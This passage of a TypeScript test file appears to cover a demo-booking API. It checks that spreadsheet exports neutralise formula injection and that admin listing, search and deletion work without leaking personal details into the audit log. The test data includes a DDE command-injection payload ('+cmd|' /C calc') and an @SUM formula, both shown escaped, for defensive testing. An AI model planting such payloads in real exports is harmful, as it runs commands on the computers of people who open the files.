      // A leading apostrophe makes Excel and Sheets show the cell as the text it is.
      expect(cell("Company")).toBe(`'${formula}`);
      expect(cell("Name")).toBe("'@SUM(1+1)");
      expect(cell("UTM source")).toBe("'+cmd|' /C calc'!A0");
      expect(cell("Email")).toBe("formula@example.com");
      // The plan a Get Started link chose, by name, for sales to follow up on.
      expect(cell("Plan")).toBe("Gold");
    });

    it("lists requests for a signed-in admin only, with paging, sorting and a total, and deletes one", async () => {
      await start({ env: { RATE_LIMIT_SCALE: "0" } });
      for (const [index, time] of ["09:00", "09:30", "10:00"].entries()) {
        const email = `list${index}@example.com`;
        await verifyEmail(email);
        t.clock.advance(1000);
        await post("/api/schedule-demo", booking({ email, time, company: `Company ${index}` }));
      }
      expect((await t.app.inject({ method: "GET", url: "/api/admin/demo-requests" })).statusCode).toBe(401);
      const token = await signIn(t.app);
      const list = await t.app.inject({
        method: "GET",
        url: "/api/admin/demo-requests?limit=2&sort=createdAt&order=desc",
        headers: { "x-auth-token": token },
      });
      expect(list.headers["x-total-count"]).toBe("3");
      const rows = list.json<DemoRequest[]>();
      expect(rows.map((row) => row.company)).toEqual(["Company 2", "Company 1"]);
      expect(rows[0]).toMatchObject({ email: "list2@example.com", date: openDay, time: "10:00", status: "new" });

      const search = await t.app.inject({
        method: "GET",
        url: "/api/admin/demo-requests?q=list1",
        headers: { "x-auth-token": token },
      });
      expect(search.json<DemoRequest[]>().map((row) => row.company)).toEqual(["Company 1"]);

      const id = rows[0]?._id;
      expect((await t.app.inject({ method: "DELETE", url: `/api/admin/demo-requests/${id}` })).statusCode).toBe(401);
      const removed = await t.app.inject({
        method: "DELETE",
        url: `/api/admin/demo-requests/${id}`,
        headers: { "x-auth-token": token },
      });
      expect(removed.json()).toEqual({ message: "Demo request deleted" });
      // The person's details leave with the request: the audit log keeps whose it was, not who.
      const [entry] = (
        await t.app.inject({
          method: "GET",
          url: "/api/admin/audit?entity=demo_request",
          headers: { "x-auth-token": token },
        })
      ).json<AuditEntry[]>();
      expect(entry).toMatchObject({ action: "delete", entityId: id, before: { company: "Company 2" } });
      expect(JSON.stringify(entry)).not.toMatch(/list2@example\.com|98300/);
      expect(await slots(openDay)).toContain("10:00");
      const again = await t.app.inject({
        method: "DELETE",
        url: `/api/admin/demo-requests/${id}`,
        headers: { "x-auth-token": token },
      });
      expect(again.statusCode).toBe(404);
    });
  });
});
